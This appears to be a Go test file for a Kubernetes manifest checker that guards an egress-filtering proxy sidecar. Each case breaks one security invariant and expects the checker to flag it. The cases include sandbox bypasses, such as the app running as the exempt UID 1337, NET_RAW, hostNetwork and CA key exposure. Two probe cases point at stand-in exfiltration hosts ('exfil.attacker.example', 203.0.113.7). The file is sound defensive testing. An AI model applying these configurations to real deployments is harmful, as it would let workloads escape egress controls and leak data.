package deploy_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	"k8s.io/apimachinery/pkg/util/intstr"
)

func TestManifestInvariants(t *testing.T) {
	t.Parallel()
	for _, err := range checkAll(loadBundle(t)) {
		t.Error(err)
	}
}

// invariantCase breaks one invariant of the real manifests; the checker must
// report it under that invariant's id with a message containing want.
type invariantCase struct {
	id, name, want string
	mutate         func(t *testing.T, b *bundle)
}

func invariantCases() []invariantCase {
	return []invariantCase{
		{"namespace", "secret in another namespace", "in namespace", func(t *testing.T, b *bundle) {
			b.Secrets[0].Namespace = "default"
		}},
		{"namespace", "selector does not match the pod", "does not match", func(t *testing.T, b *bundle) {
			b.Deployments[0].Spec.Selector.MatchLabels = map[string]string{"app": "other"}
		}},
		{"pod-isolation", "hostNetwork", "hostNetwork", func(t *testing.T, b *bundle) {
			spec(b).HostNetwork = true
		}},
		{"pod-isolation", "hostPath volume", `volume "node" is a hostPath`, func(t *testing.T, b *bundle) {
			spec(b).Volumes = append(spec(b).Volumes, corev1.Volume{Name: "node", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
		}},
		{"pod-isolation", "shared PID namespace", "shareProcessNamespace", func(t *testing.T, b *bundle) {
			spec(b).ShareProcessNamespace = ptr(true)
		}},
		{"pod-isolation", "service account token", "automountServiceAccountToken", func(t *testing.T, b *bundle) {
			spec(b).AutomountServiceAccountToken = nil
		}},
		{"init-order", "botbox as a regular container", "regular container", func(t *testing.T, b *bundle) {
			s := spec(b)
			i := slices.IndexFunc(s.InitContainers, func(c corev1.Container) bool { return c.Name == nameBotBox })
			c := s.InitContainers[i]
			c.RestartPolicy = nil
			s.InitContainers = slices.Delete(s.InitContainers, i, i+1)
			s.Containers = append(s.Containers, c)
		}},
		{"init-order", "botbox without restartPolicy", "restartPolicy: Always", func(t *testing.T, b *bundle) {
			container(t, b, nameBotBox).RestartPolicy = nil
		}},
		{"init-order", "botbox before iptables-init", "botbox starts before iptables-init", func(t *testing.T, b *bundle) {
			s := spec(b)
			ipt := slices.IndexFunc(s.InitContainers, func(c corev1.Container) bool { return c.Name == nameIPTablesInit })
			bb := slices.IndexFunc(s.InitContainers, func(c corev1.Container) bool { return c.Name == nameBotBox })
			s.InitContainers[ipt], s.InitContainers[bb] = s.InitContainers[bb], s.InitContainers[ipt]
		}},
		{"init-order", "a sidecar before the rules", "starts before iptables-init installs the rules", func(t *testing.T, b *bundle) {
			container(t, b, nameCAInit).RestartPolicy = ptr(corev1.ContainerRestartPolicyAlways)
		}},
		{"init-order", "no iptables-init", "nothing installs the egress rules", func(t *testing.T, b *bundle) {
			s := spec(b)
			s.InitContainers = slices.DeleteFunc(s.InitContainers, func(c corev1.Container) bool { return c.Name == nameIPTablesInit })
		}},
		{"app-uid", "app as 1337", "bypasses BotBox", func(t *testing.T, b *bundle) {
			app(b).SecurityContext.RunAsUser = ptr(int64(1337))
		}},
		{"app-uid", "app inherits a pod default of 1337", "default runAsUser is 1337", func(t *testing.T, b *bundle) {
			app(b).SecurityContext.RunAsUser = nil
			spec(b).SecurityContext.RunAsUser = ptr(int64(1337))
		}},
		{"app-uid", "app UID left to the image", "runAsUser not set", func(t *testing.T, b *bundle) {
			app(b).SecurityContext.RunAsUser = nil
			spec(b).SecurityContext.RunAsUser = nil
		}},
		{"app-uid", "app as root", "runs as root", func(t *testing.T, b *bundle) {
			app(b).SecurityContext.RunAsUser = ptr(int64(0))
		}},
		{"app-uid", "app not runAsNonRoot", "runAsNonRoot must be true", func(t *testing.T, b *bundle) {
			app(b).SecurityContext.RunAsNonRoot = ptr(false)
		}},
		{"app-uid", "exempt UID follows BOTBOX_UID", "bypasses BotBox", func(t *testing.T, b *bundle) {
			setEnv(container(t, b, nameIPTablesInit), "BOTBOX_UID", "1000")
		}},
		{"exempt-uid", "botbox not the exempt UID", "must run as BOTBOX_UID", func(t *testing.T, b *bundle) {
			container(t, b, nameBotBox).SecurityContext.RunAsUser = ptr(int64(1338))
		}},
		{"exempt-uid", "foreign image as 1337", "only BotBox's own image may", func(t *testing.T, b *bundle) {
			helper := *app(b).DeepCopy()
			helper.Name = "helper"
			helper.Image = "busybox:1.37"
			helper.SecurityContext.RunAsUser = ptr(int64(1337))
			spec(b).Containers = append(spec(b).Containers, helper)
		}},
		{"exempt-uid", "ca-init from another image", "only BotBox's own image may", func(t *testing.T, b *bundle) {
			container(t, b, nameCAInit).Image = "alpine/openssl:latest"
		}},
		{"capabilities", "NET_ADMIN on the app", "only iptables-init may", func(t *testing.T, b *bundle) {
			app(b).SecurityContext.Capabilities.Add = []corev1.Capability{"NET_ADMIN"}
		}},
		{"capabilities", "NET_ADMIN on botbox, CAP_ spelling", "only iptables-init may", func(t *testing.T, b *bundle) {
			container(t, b, nameBotBox).SecurityContext.Capabilities.Add = []corev1.Capability{"CAP_NET_ADMIN"}
		}},
		{"capabilities", "SYS_ADMIN on iptables-init", "only NET_ADMIN and NET_RAW", func(t *testing.T, b *bundle) {
			c := container(t, b, nameIPTablesInit)
			c.SecurityContext.Capabilities.Add = append(c.SecurityContext.Capabilities.Add, "SYS_ADMIN")
		}},
		{"capabilities", "iptables-init without NET_ADMIN", "needs NET_ADMIN", func(t *testing.T, b *bundle) {
			container(t, b, nameIPTablesInit).SecurityContext.Capabilities.Add = []corev1.Capability{"NET_RAW"}
		}},
		{"capabilities", "NET_RAW on the app", "AF_PACKET frames skip netfilter", func(t *testing.T, b *bundle) {
			app(b).SecurityContext.Capabilities.Add = []corev1.Capability{"NET_RAW"}
		}},
		{"capabilities", "app drops NET_ADMIN only, keeping the runtime's NET_RAW", "must drop ALL", func(t *testing.T, b *bundle) {
			app(b).SecurityContext.Capabilities.Drop = []corev1.Capability{"NET_ADMIN"}
		}},
		{"capabilities", "privileged app", "is privileged", func(t *testing.T, b *bundle) {
			app(b).SecurityContext.Privileged = ptr(true)
		}},
		{"capabilities", "botbox keeps default capabilities", "must drop ALL", func(t *testing.T, b *bundle) {
			container(t, b, nameBotBox).SecurityContext.Capabilities.Drop = nil
		}},
		{"capabilities", "app may escalate", "allowPrivilegeEscalation", func(t *testing.T, b *bundle) {
			app(b).SecurityContext.AllowPrivilegeEscalation = nil
		}},
		{"capabilities", "no securityContext", "no securityContext", func(t *testing.T, b *bundle) {
			app(b).SecurityContext = nil
		}},
		{"capabilities", "user init container keeps the runtime's set", "must drop ALL", func(t *testing.T, b *bundle) {
			setup := *app(b).DeepCopy()
			setup.Name = "setup"
			setup.SecurityContext.Capabilities = nil
			spec(b).InitContainers = append(spec(b).InitContainers, setup)
		}},
		{"pod-security", "hostPort", "Pod Security baseline:latest forbids hostPort", func(t *testing.T, b *bundle) {
			app(b).Ports = append(app(b).Ports, corev1.ContainerPort{ContainerPort: 3000, HostPort: 3000})
		}},
		{"pod-security", "Pod-level seccomp Unconfined", "seccompProfile", func(t *testing.T, b *bundle) {
			if spec(b).SecurityContext == nil {
				spec(b).SecurityContext = &corev1.PodSecurityContext{}
			}
			spec(b).SecurityContext.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
		}},
		{"pod-security", "unsafe sysctl", "forbidden sysctls", func(t *testing.T, b *bundle) {
			if spec(b).SecurityContext == nil {
				spec(b).SecurityContext = &corev1.PodSecurityContext{}
			}
			spec(b).SecurityContext.Sysctls = []corev1.Sysctl{{Name: "net.ipv4.conf.all.route_localnet", Value: "1"}}
		}},
		{"probes", "readiness probe with a host (the kubelet connects from the node)", `httpGet.host "exfil.attacker.example"`, func(t *testing.T, b *bundle) {
			app(b).ReadinessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{HTTPGet: &corev1.HTTPGetAction{Host: "exfil.attacker.example", Port: intstr.FromInt32(80)}}}
		}},
		{"probes", "preStop tcpSocket with a host", `tcpSocket.host "203.0.113.7"`, func(t *testing.T, b *bundle) {
			app(b).Lifecycle = &corev1.Lifecycle{PreStop: &corev1.LifecycleHandler{TCPSocket: &corev1.TCPSocketAction{Host: "203.0.113.7", Port: intstr.FromInt32(53)}}}
		}},
		{"botbox-hardening", "writable root filesystem", "readOnlyRootFilesystem", func(t *testing.T, b *bundle) {
			container(t, b, nameBotBox).SecurityContext.ReadOnlyRootFilesystem = ptr(false)
		}},
		{"botbox-hardening", "ca-init may run as root", "runAsNonRoot", func(t *testing.T, b *bundle) {
			container(t, b, nameCAInit).SecurityContext.RunAsNonRoot = ptr(false)
		}},
		{"ipv6-decided", "unset", "not set", func(t *testing.T, b *bundle) {
			c := container(t, b, nameIPTablesInit)
			c.Env = slices.DeleteFunc(c.Env, func(e corev1.EnvVar) bool { return e.Name == "BOTBOX_ENABLE_IPV6" })
		}},
		{"ipv6-decided", "not 0 or 1", `want "0" or "1"`, func(t *testing.T, b *bundle) {
			setEnv(container(t, b, nameIPTablesInit), "BOTBOX_ENABLE_IPV6", "true")
		}},
		{"ipv6-decided", "from a ConfigMap", "literal", func(t *testing.T, b *bundle) {
			c := container(t, b, nameIPTablesInit)
			e := env(t, c, "BOTBOX_ENABLE_IPV6")
			e.Value = ""
			e.ValueFrom = &corev1.EnvVarSource{ConfigMapKeyRef: &corev1.ConfigMapKeySelector{
				LocalObjectReference: corev1.LocalObjectReference{Name: "net"}, Key: "ipv6"}}
		}},
		{"netfilter-env", "typo in a variable", "unknown variable BOTBOX_PROXYPORT", func(t *testing.T, b *bundle) {
			env(t, container(t, b, nameIPTablesInit), "BOTBOX_PROXY_PORT").Name = "BOTBOX_PROXYPORT"
		}},
		{"netfilter-env", "443 redirected to the plain proxy", "conflict", func(t *testing.T, b *bundle) {
			setEnv(container(t, b, nameIPTablesInit), "BOTBOX_REDIRECT_FROM_PORT", "443")
		}},
		{"netfilter-env", "envFrom", "envFrom", func(t *testing.T, b *bundle) {
			container(t, b, nameIPTablesInit).EnvFrom = []corev1.EnvFromSource{{ConfigMapRef: &corev1.ConfigMapEnvSource{
				LocalObjectReference: corev1.LocalObjectReference{Name: "net"}}}}
		}},
		{"netfilter-env", "BOTBOX_REJECT not a switch", "BOTBOX_REJECT must be 0 or 1", func(t *testing.T, b *bundle) {
			setEnv(container(t, b, nameIPTablesInit), "BOTBOX_REJECT", "yes")
		}},
		{"netfilter-env", "DNS server by name", "not an IP address", func(t *testing.T, b *bundle) {
			setEnv(container(t, b, nameIPTablesInit), "BOTBOX_DNS_SERVERS", "10.96.0.10,kube-dns")
		}},
		{"netfilter-env", "port not a number", "a port number", func(t *testing.T, b *bundle) {
			setEnv(container(t, b, nameIPTablesInit), "BOTBOX_PROXY_PORT", "http")
		}},
		{"ca-key-isolation", "app mounts the key", "mounts the CA key volume", func(t *testing.T, b *bundle) {
			a := app(b)
			a.VolumeMounts = append(a.VolumeMounts, corev1.VolumeMount{Name: "ca-key", MountPath: "/etc/botbox-ca-key", ReadOnly: true})
		}},
		{"ca-key-isolation", "key on the node's disk", "medium Memory", func(t *testing.T, b *bundle) {
			volume(t, b, "ca-key").EmptyDir.Medium = corev1.StorageMediumDefault
		}},
		{"ca-key-isolation", "ca-init writes the key next to the certificate", "is not where botbox reads it", func(t *testing.T, b *bundle) {
			c := container(t, b, nameCAInit)
			c.Args[slices.Index(c.Args, "--key-out")+1] = "/ca-cert/ca.key"
		}},
		{"ca-key-isolation", "key and certificate share a volume", "share volume", func(t *testing.T, b *bundle) {
			editConfig(t, b, "ca_key_path: /etc/botbox-ca-key/ca.key", "ca_key_path: /etc/botbox-ca/ca.key")
		}},
		{"ca-readonly", "app can replace the certificate", "writable", func(t *testing.T, b *bundle) {
			app(b).VolumeMounts[0].ReadOnly = false
		}},
		{"ca-readonly", "botbox can write the key", "writable", func(t *testing.T, b *bundle) {
			c := container(t, b, nameBotBox)
			for i := range c.VolumeMounts {
				if c.VolumeMounts[i].Name == "ca-key" {
					c.VolumeMounts[i].ReadOnly = false
				}
			}
		}},
		{"app-trusts-ca", "trust variable points elsewhere", "but the CA certificate is at", func(t *testing.T, b *bundle) {
			setEnv(app(b), "CURL_CA_BUNDLE", "/etc/ssl/certs/ca-certificates.crt")
		}},
		{"app-trusts-ca", "certificate not mounted", "does not mount the CA certificate", func(t *testing.T, b *bundle) {
			app(b).VolumeMounts = nil
		}},
		{"app-trusts-ca", "no trust variable", "sets none of", func(t *testing.T, b *bundle) {
			app(b).Env = nil
		}},
		{"secrets-isolation", "app mounts the credentials", "mounts the credential Secret", func(t *testing.T, b *bundle) {
			a := app(b)
			a.VolumeMounts = append(a.VolumeMounts, corev1.VolumeMount{Name: "secrets", MountPath: "/secrets", ReadOnly: true})
		}},
		{"secrets-isolation", "mode 0400 without fsGroup", "unreadable for UID 1337", func(t *testing.T, b *bundle) {
			volume(t, b, "secrets").Secret.DefaultMode = ptr(int32(0o400))
		}},
		{"secrets-wiring", "secret_ref missing from the Secret", `secret_ref "openai-api-key" is not a file`, func(t *testing.T, b *bundle) {
			b.Secrets[0].StringData = map[string]string{"openai-key": "x"}
		}},
		{"secrets-wiring", "items leave the key out", `secret_ref "openai-api-key" is not a file`, func(t *testing.T, b *bundle) {
			volume(t, b, "secrets").Secret.Items = []corev1.KeyToPath{{Key: "openai-api-key", Path: "openai"}}
		}},
		{"secrets-wiring", "subPath mount", "subPath", func(t *testing.T, b *bundle) {
			c := container(t, b, nameBotBox)
			for i := range c.VolumeMounts {
				if c.VolumeMounts[i].Name == "secrets" {
					c.VolumeMounts[i].SubPath = "openai-api-key"
				}
			}
		}},
		{"secrets-wiring", "mounted away from secrets_dir", "not a volume mount point", func(t *testing.T, b *bundle) {
			editConfig(t, b, "secrets_dir: /var/run/secrets/botbox", "secrets_dir: /var/run/secrets/agent")
		}},
		{"secrets-wiring", "Secret object missing", `no Secret "botbox-secret"`, func(t *testing.T, b *bundle) {
			volume(t, b, "secrets").Secret.SecretName = "botbox-secret"
		}},
		{"probes", "httpGet readiness on the health port", "loopback-only", func(t *testing.T, b *bundle) {
			container(t, b, nameBotBox).ReadinessProbe.ProbeHandler = corev1.ProbeHandler{
				HTTPGet: &corev1.HTTPGetAction{Path: "/healthz", Port: intstr.FromInt32(9090)}}
		}},
		{"probes", "tcpSocket liveness on the proxy port", "loopback-only", func(t *testing.T, b *bundle) {
			app(b).LivenessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{
				TCPSocket: &corev1.TCPSocketAction{Port: intstr.FromInt32(8080)}}}
		}},
		{"probes", "httpGet through a named port", "port 9090", func(t *testing.T, b *bundle) {
			a := app(b)
			a.Ports = []corev1.ContainerPort{{Name: "metrics", ContainerPort: 9090}}
			a.ReadinessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{
				HTTPGet: &corev1.HTTPGetAction{Path: "/healthz", Port: intstr.FromString("metrics")}}}
		}},
		{"probes", "no startup probe", "startup probe: missing", func(t *testing.T, b *bundle) {
			container(t, b, nameBotBox).StartupProbe = nil
		}},
		{"probes", "probe on the wrong port", "want http://127.0.0.1:9090/healthz", func(t *testing.T, b *bundle) {
			container(t, b, nameBotBox).ReadinessProbe.Exec.Command[2] = "http://127.0.0.1:9091/healthz"
		}},
		{"probes", "probe through a shell", "want [/botbox probe URL]", func(t *testing.T, b *bundle) {
			container(t, b, nameBotBox).ReadinessProbe.Exec.Command = []string{"/bin/sh", "-c", "curl -sf http://127.0.0.1:9090/healthz"}
		}},
		{"config-parses", "unknown key", "ConfigMap", func(t *testing.T, b *bundle) {
			editConfig(t, b, "https_interception:", "https_intercept:")
		}},
		{"config-parses", "default allow", "config warning", func(t *testing.T, b *bundle) {
			editConfig(t, b, "default_action: deny", "default_action: allow")
		}},
		{"config-parses", "--config names a missing key", "has no key", func(t *testing.T, b *bundle) {
			c := container(t, b, nameBotBox)
			c.Args = []string{"--config", "/etc/botbox/botbox.yaml"}
		}},
		{"config-parses", "args without --config", "no --config", func(t *testing.T, b *bundle) {
			container(t, b, nameBotBox).Args = []string{"run"}
		}},
		{"config-matches-netfilter", "no DNS guard and no DNS servers", "port 53 of any host", func(t *testing.T, b *bundle) {
			c := container(t, b, nameIPTablesInit)
			c.Env = slices.DeleteFunc(c.Env, func(e corev1.EnvVar) bool { return e.Name == "BOTBOX_DNS_GUARD_PORT" })
			editConfig(t, b, "dns_guard:\n  enabled: true", "dns_guard:\n  enabled: false")
		}},
		{"config-matches-netfilter", "guard redirected to, not run", "dns_guard is not enabled", func(t *testing.T, b *bundle) {
			editConfig(t, b, "dns_guard:\n  enabled: true", "dns_guard:\n  enabled: false")
		}},
		{"config-matches-netfilter", "interception off in the config", "is not enabled", func(t *testing.T, b *bundle) {
			editConfig(t, b, "  enabled: true", "  enabled: false")
		}},
		{"config-matches-netfilter", "443 not redirected", "dropped, not redirected", func(t *testing.T, b *bundle) {
			setEnv(container(t, b, nameIPTablesInit), "BOTBOX_ENABLE_HTTPS_INTERCEPTION", "0")
		}},
		{"config-matches-netfilter", "proxy port mismatch", "BOTBOX_PROXY_PORT 8081 != listen_port 8080", func(t *testing.T, b *bundle) {
			setEnv(container(t, b, nameIPTablesInit), "BOTBOX_PROXY_PORT", "8081")
		}},
		{"config-matches-netfilter", "metrics port mismatch", "BOTBOX_METRICS_PORT 9091 != metrics_port 9090", func(t *testing.T, b *bundle) {
			setEnv(container(t, b, nameIPTablesInit), "BOTBOX_METRICS_PORT", "9091")
		}},
		{"config-matches-netfilter", "interception port mismatch", "!= https_interception.listen_port", func(t *testing.T, b *bundle) {
			editConfig(t, b, "listen_port: 8443", "listen_port: 8444")
		}},
		{"config-matches-netfilter", "IPv4-only listener with IPv6 rules", "leave it at the default", func(t *testing.T, b *bundle) {
			editConfig(t, b, "listen_port: 8080", "listen_addr: \"127.0.0.1\"\nlisten_port: 8080")
		}},
		{"probe-key", "no probe key file", "BOTBOX_PROBE_KEY_FILE must be an absolute path", func(t *testing.T, b *bundle) {
			c := container(t, b, nameBotBox)
			c.Env = slices.DeleteFunc(c.Env, func(e corev1.EnvVar) bool { return e.Name == "BOTBOX_PROBE_KEY_FILE" })
		}},
		{"probe-key", "key on the read-only root", "is on no volume", func(t *testing.T, b *bundle) {
			setEnv(container(t, b, nameBotBox), "BOTBOX_PROBE_KEY_FILE", "/var/botbox/probe.key")
		}},
		{"probe-key", "app mounts the key volume", "only botbox may read the key", func(t *testing.T, b *bundle) {
			app := container(t, b, "app")
			app.VolumeMounts = append(app.VolumeMounts, corev1.VolumeMount{Name: "botbox-run", MountPath: "/run/botbox"})
		}},
		{"grace-period", "grace period below the drain deadline", "mid-drain", func(t *testing.T, b *bundle) {
			spec(b).TerminationGracePeriodSeconds = ptr(int64(20))
		}},
		{"network-policy", "policy selects another pod", "no NetworkPolicy", func(t *testing.T, b *bundle) {
			b.NetworkPolicies[0].Spec.PodSelector.MatchLabels = map[string]string{"app": "other"}
		}},
		{"network-policy", "ingress only", "no NetworkPolicy", func(t *testing.T, b *bundle) {
			b.NetworkPolicies[0].Spec.PolicyTypes = []networkingv1.PolicyType{networkingv1.PolicyTypeIngress}
		}},
	}
}

func TestInvariantsCatchViolations(t *testing.T) {
	t.Parallel()
	for _, tt := range invariantCases() {
		t.Run(tt.id+"/"+tt.name, func(t *testing.T) {
			t.Parallel()
			b := loadBundle(t)
			tt.mutate(t, b)
			errs := checkAll(b)
			for _, err := range errs {
				if strings.HasPrefix(err.Error(), tt.id+": ") && strings.Contains(err.Error(), tt.want) {
					return
				}
			}
			t.Errorf("no %q error containing %q; got %d errors:", tt.id, tt.want, len(errs))
			for _, err := range errs {
				t.Log(err)
			}
		})
	}
}

// TestRejectIsAKnownVariable: BOTBOX_REJECT=1 on iptables-init is a valid
// manifest (inject.NetfilterEnv lists it), not an "unknown variable".
func TestRejectIsAKnownVariable(t *testing.T) {
	t.Parallel()
	b := loadBundle(t)
	setEnv(container(t, b, nameIPTablesInit), "BOTBOX_REJECT", "1")
	for _, err := range checkAll(b) {
		t.Errorf("with BOTBOX_REJECT=1: %v", err)
	}
}

// TestEveryInvariantHasANegativeCase keeps the checker honest: an invariant
// that no mutation trips could be checking nothing.
func TestEveryInvariantHasANegativeCase(t *testing.T) {
	t.Parallel()
	covered := map[string]bool{}
	for _, c := range invariantCases() {
		covered[c.id] = true
	}
	ids := map[string]bool{}
	for _, inv := range invariants() {
		if ids[inv.id] {
			t.Errorf("invariant id %q used twice", inv.id)
		}
		ids[inv.id] = true
		if !covered[inv.id] {
			t.Errorf("invariant %q has no negative case", inv.id)
		}
	}
	for id := range covered {
		if !ids[id] {
			t.Errorf("negative case for unknown invariant %q", id)
		}
	}
}

// TestSecretReadableWithFSGroup: 0400 is fine once an fsGroup makes the
// kubelet add group read (the alternative docs/deploy.md discusses).
func TestSecretReadableWithFSGroup(t *testing.T) {
	t.Parallel()
	b := loadBundle(t)
	volume(t, b, "secrets").Secret.DefaultMode = ptr(int32(0o400))
	spec(b).SecurityContext.FSGroup = ptr(int64(1337))
	for _, err := range checkAll(b) {
		t.Error(err)
	}
}

// ---- mutation helpers ------------------------------------------------------

func ptr[T any](v T) *T { return &v }

func spec(b *bundle) *corev1.PodSpec { return &b.Deployments[0].Spec.Template.Spec }

// app is the first regular container.
func app(b *bundle) *corev1.Container { return &spec(b).Containers[0] }

func container(t *testing.T, b *bundle, name string) *corev1.Container {
	t.Helper()
	s := spec(b)
	for i := range s.InitContainers {
		if s.InitContainers[i].Name == name {
			return &s.InitContainers[i]
		}
	}
	for i := range s.Containers {
		if s.Containers[i].Name == name {
			return &s.Containers[i]
		}
	}
	t.Fatalf("no container %q", name)
	return nil
}

func volume(t *testing.T, b *bundle, name string) *corev1.Volume {
	t.Helper()
	s := spec(b)
	for i := range s.Volumes {
		if s.Volumes[i].Name == name {
			return &s.Volumes[i]
		}
	}
	t.Fatalf("no volume %q", name)
	return nil
}

func env(t *testing.T, c *corev1.Container, name string) *corev1.EnvVar {
	t.Helper()
	for i := range c.Env {
		if c.Env[i].Name == name {
			return &c.Env[i]
		}
	}
	t.Fatalf("container %q has no env %s", c.Name, name)
	return nil
}

func setEnv(c *corev1.Container, name, value string) {
	for i := range c.Env {
		if c.Env[i].Name == name {
			c.Env[i].Value = value
			return
		}
	}
	c.Env = append(c.Env, corev1.EnvVar{Name: name, Value: value})
}

// editConfig replaces old with new in the ConfigMap's config.yaml.
func editConfig(t *testing.T, b *bundle, old, new string) {
	t.Helper()
	cm := b.ConfigMaps[0]
	data := cm.Data["config.yaml"]
	if !strings.Contains(data, old) {
		t.Fatalf("config.yaml does not contain %q; update the test", old)
	}
	cm.Data["config.yaml"] = strings.Replace(data, old, new, 1)
}

// TestDocsListEveryInvariant keeps docs/deploy.md's table in step with the
// checker.
func TestDocsListEveryInvariant(t *testing.T) {
	t.Parallel()
	data, err := os.ReadFile(filepath.Join("..", "docs", "deploy.md"))
	if err != nil {
		t.Fatal(err)
	}
	for _, inv := range invariants() {
		if !strings.Contains(string(data), "| `"+inv.id+"` |") {
			t.Errorf("docs/deploy.md does not list invariant %q", inv.id)
		}
	}
}
